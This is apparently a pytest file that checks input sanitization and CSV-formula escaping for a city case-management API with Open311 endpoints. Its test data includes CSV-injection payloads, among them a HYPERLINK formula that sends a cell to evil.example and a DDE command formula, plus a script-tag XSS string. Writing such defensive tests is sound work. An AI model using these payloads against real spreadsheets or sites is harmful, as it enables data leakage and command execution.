"""Hostile text through the case API (issue 12), on SQLite and PostgreSQL: control characters in
reports, Open311 requests, lifecycle notes, camera events and re-check answers are stored clean;
text stored raw before these rules still gives XML a parser reads and JSON that round-trips; a
grid named like a formula is escaped in the assessment CSV."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import xml.etree.ElementTree as ET
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import select

from api.core.text import xml_text
from api.errors import InvalidEventError
from api.ingest.sample import sample_event, sample_jpeg
from api.models import Case, CaseEvent
from api.services.recheck_answers import parse_result
from tests.api_support import auth, db_url, ingest_sample, key_of, module_pg

__all__ = ["db_url", "module_pg"]  # fixtures

O311 = "/open311/v2"
PREFIX = "citywatch/v1"


def stored(app: FastAPI, cid: int) -> Case:
    with app.state.session_factory() as s:
        case = s.get(Case, cid)
        assert case is not None
        return case


def xml_request(client: TestClient, cid: int) -> ET.Element:
    response = client.get(
        f"{O311}/requests/{cid}.xml", params={"extensions": "true"}, headers=auth("reviewer")
    )
    assert response.status_code == 200, response.text
    node = ET.fromstring(response.content).find("request")  # raises on invalid XML
    assert node is not None
    return node


def test_a_report_with_control_characters_is_stored_clean(app: FastAPI, client: TestClient) -> None:
    form = {
        "rule": "street_vending",
        "lat": "30.641",
        "lon": "114.386",
        "description": "\x00游商\x07 at the\x1b[31m gate\u202e\r\nsecond\x7f line 🚨 ]]> & <b>bold</b>",
        "address": "建设二路\x00 56 号\r\n(\ufffe east gate)",
        "grid": "红钢城-05\x1f",
        "road": "\u2066建设二路\u2069",
        "reporter": "138-0000-0000\x0b",
    }
    response = client.post(
        "/reports",
        headers=auth("public"),
        data=form,
        files={"photo": ("p.jpg", sample_jpeg("ctl"), "image/jpeg")},
    )
    assert response.status_code == 201, response.text
    description = "游商 at the[31m gate\nsecond line 🚨 ]]> & bold"
    address = "建设二路 56 号 ( east gate)"
    body = response.json()
    assert (body["description"], body["address"], body["grid"], body["road"]) == (
        description,
        address,
        "红钢城-05",
        "建设二路",
    )
    assert body["street"] == "hgc"  # the clean grid routes
    case = stored(app, body["id"])
    assert (case.description, case.address, case.grid, case.reporter) == (
        description,
        address,
        "红钢城-05",
        "138-0000-0000",
    )
    node = xml_request(client, body["id"])
    assert (node.findtext("description"), node.findtext("address")) == (description, address)
    assert node.findtext("extended_attributes/grid") == "红钢城-05"


def test_nothing_but_control_characters_is_an_empty_description(client: TestClient) -> None:
    response = client.post(
        "/reports",
        headers=auth("public"),
        data={"rule": "unclean_road", "lat": "30.6", "lon": "114.4", "description": "\x00\x01\u202e \r\n"},
        files={"photo": ("p.jpg", sample_jpeg("empty"), "image/jpeg")},
    )
    assert response.status_code == 422
    assert response.json()["detail"][0]["loc"] == ["body", "description"]


def test_an_open311_request_with_control_characters(app: FastAPI, client: TestClient) -> None:
    form = {
        "api_key": key_of("public"),
        "service_code": "unclean_road",
        "lat": "30.62",
        "long": "114.41",
        "description": "\x01litter\x00 <i>everywhere</i>\u2069",
        "address_string": "路\x0b1号",
        "first_name": "Ann\x00",
        "last_name": "\u202eLee",
        "account_id": "acc\x01\ufffe-7",
    }
    response = client.post(f"{O311}/requests.xml", data=form)
    assert response.status_code == 201, response.text
    created = ET.fromstring(response.content).find("request")
    assert created is not None and created.findtext("account_id") == "acc-7"
    case = stored(app, int(created.findtext("service_request_id") or 0))
    assert (case.description, case.address, case.reporter) == ("litter everywhere", "路 1号", "Ann Lee")
    assert xml_request(client, case.id).findtext("description") == "litter everywhere"


def _comment(client: TestClient, cid: int, raw: bytes) -> Any:
    headers = {**auth("reviewer"), "content-type": "application/json"}
    return client.post(f"/cases/{cid}/comment", headers=headers, content=raw)


def test_lifecycle_notes_are_stored_clean(app: FastAPI, client: TestClient) -> None:
    cid = ingest_sample(app, sample_event(stream="cam-t1"))
    # JSON can carry a NUL and a lone surrogate; PostgreSQL refuses the first, UTF-8 the second
    response = _comment(client, cid, b'{"note": "ok\\ud800\\u0000\\u202e x\\r\\ny\\u0007"}')
    assert response.status_code == 200, response.text
    assert response.json()["events"][0]["note"] == "ok x\ny"
    assert (
        client.post(f"/cases/{cid}/register", headers=auth("reviewer"), json={"note": "\x1bfine\x00"}).json()[
            "events"
        ][0]["note"]
        == "fine"
    )
    dispatched = client.post(
        f"/cases/{cid}/dispatch",
        headers=auth("dispatcher"),
        json={"unit": "\x00hgc-squad\n", "note": "go\x7f"},
    )
    assert dispatched.status_code == 200, dispatched.text
    assert dispatched.json()["case"]["unit"] == "hgc-squad"
    assert client.post(f"/cases/{cid}/accept", headers=auth("unit")).status_code == 200
    disposed = client.post(f"/cases/{cid}/dispose", headers=auth("unit"), data={"note": "done\x00\x1b\u2066"})
    assert disposed.status_code == 200, disposed.text
    with app.state.session_factory() as s:
        rows = s.execute(select(CaseEvent.kind, CaseEvent.note).where(CaseEvent.case_id == cid)).all()
    notes = {kind: note for kind, note in rows if kind in ("comment", "register", "dispatch", "dispose")}
    assert notes == {"comment": "ok x\ny", "register": "fine", "dispatch": "go", "dispose": "done"}


@pytest.mark.parametrize(
    "raw",
    [
        b'{"note": "\\u0000\\u0001\\ud800"}',  # nothing left: too short
        b'{"note": "x", "extra\\ud800": "\\ud800"}',  # echoed in the error
        b'{"note": ["\\ud800"]}',
    ],
)
def test_a_422_that_echoes_a_lone_surrogate_is_still_json(
    app: FastAPI, client: TestClient, raw: bytes
) -> None:
    cid = ingest_sample(app, sample_event(stream="cam-t2"))
    response = _comment(client, cid, raw)
    assert response.status_code == 422, response.text
    assert response.json()["detail"]


def test_camera_event_text_is_stored_clean(app: FastAPI, client: TestClient) -> None:
    body = sample_event(
        stream="cam-t3",
        location={
            "lat": 30.6,
            "lon": 114.39,
            "grid": "红钢城-01\x1b",
            "address": "路\r\n7\x07号",
            "road": "\u202eX",
        },
    )
    body["model"]["name"] = "synth\x07"
    case = stored(app, ingest_sample(app, body))
    assert (case.grid, case.address, case.road, case.model_name) == ("红钢城-01", "路 7号", "X", "synth")


def _answer(detector: str) -> bytes:
    jpeg = sample_jpeg("answer")
    body = {
        "schema": "citywatch.recheck-result/1",
        "request_id": "rc-" + "a" * 24,
        "case_id": 1,
        "result": "absent",
        "checked_at": "2026-03-02T02:00:00+00:00",
        "detector": detector,
        "evidence": {
            "jpeg": base64.b64encode(jpeg).decode(),
            "sha256": hashlib.sha256(jpeg).hexdigest(),
            "captured_at": "2026-03-02T01:59:58+00:00",
        },
    }
    return json.dumps(body).encode()


def test_a_recheck_answer_names_a_clean_detector() -> None:
    topic = f"{PREFIX}/recheck-results/cam-r1"
    assert parse_result(topic, _answer("detector-1\x00\x1b\u202e"), PREFIX)["detector"] == "detector-1"
    with pytest.raises(InvalidEventError, match="detector"):
        parse_result(topic, _answer("\x00\x01"), PREFIX)


RAW = [
    "".join(chr(c) for c in range(1, 0x20)) + "\x7f\x85\x9f",
    "\ufffe\uffff noncharacters",
    "🚨 emoji \u202e RTL override \u2066 isolate",
    "]]> <script>alert(1)</script> &amp; & \"double\" 'single' </request>",
    "line\r\nbreaks\rand\nmore\u2028",
]


@pytest.mark.parametrize("text", RAW)
def test_text_stored_raw_still_gives_valid_xml_and_json(app: FastAPI, client: TestClient, text: str) -> None:
    """Written to the database by hand (or before the input rules): the NUL and lone surrogates
    are left out because neither database driver can store them."""
    cid = ingest_sample(app, sample_event(stream="cam-t4"))
    assert client.post(f"/cases/{cid}/register", headers=auth("reviewer")).status_code == 200
    with app.state.session_factory() as s, s.begin():
        case = s.get(Case, cid)
        assert case is not None
        case.description, case.address, case.grid, case.road = text, text, text[:64], text[:128]
    read_back = xml_text(text).replace("\r\n", "\n").replace("\r", "\n")
    node = xml_request(client, cid)
    assert (node.findtext("description"), node.findtext("address")) == (read_back, read_back)
    assert node.findtext("extended_attributes/grid") == xml_text(text[:64]).replace("\r\n", "\n").replace(
        "\r", "\n"
    )
    listing = client.get(f"{O311}/requests.xml", params={"extensions": "true"}, headers=auth("reviewer"))
    assert ET.fromstring(listing.content).find("request") is not None
    as_json = client.get(f"{O311}/requests/{cid}.json", headers=auth("reviewer")).json()
    assert (as_json[0]["description"], as_json[0]["address"]) == (text, text)
    case_json = client.get(f"/cases/{cid}", headers=auth("reviewer"))
    assert case_json.json()["description"] == text and case_json.json()["grid"] == text[:64]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
]


def _dispatched(app: FastAPI, client: TestClient, grid: str, n: int) -> int:
    cid = ingest_sample(
        app, sample_event(stream=f"cam-f{n}", location={"lat": 30.6 + n * 0.01, "lon": 114.39, "grid": grid})
    )
    assert client.post(f"/cases/{cid}/register", headers=auth("reviewer")).status_code == 200
    response = client.post(f"/cases/{cid}/dispatch", headers=auth("dispatcher"), json={"unit": "hgc-squad"})
    assert response.status_code == 200, response.text
    return cid


def _csv_rows(client: TestClient, by: str) -> list[list[str]]:
    response = client.get("/assessment/csv", params={"month": "2026-03", "by": by}, headers=auth("reviewer"))
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8").removeprefix("\ufeff"))))[1:]


def test_formula_grids_are_escaped_in_the_assessment_csv(app: FastAPI, client: TestClient) -> None:
    for n, grid in enumerate(FORMULAS):
        _dispatched(app, client, grid, n)
    raw_cid = _dispatched(app, client, "plain", len(FORMULAS))
    with app.state.session_factory() as s, s.begin():  # a grid written before the input rules
        case = s.get(Case, raw_cid)
        assert case is not None
        case.grid = "\t=1+1"
    rows = {line[1]: line for line in _csv_rows(client, "grid")}
    expected = {"'" + g for g in [*FORMULAS, "\t=1+1"]}
    assert set(rows) == expected
    assert all(line[2] == line[1] for line in rows.values())  # the name column is the key
    assert all(line[4] == "1" for line in rows.values())  # 派遣数 stays a number
    as_json = client.get("/assessment", params={"month": "2026-03", "by": "grid"}, headers=auth("reviewer"))
    assert {r["key"] for r in as_json.json()["rows"]} == {*FORMULAS, "\t=1+1"}  # JSON is not a sheet
    assert [line[1] for line in _csv_rows(client, "unit")] == ["hgc-squad"]
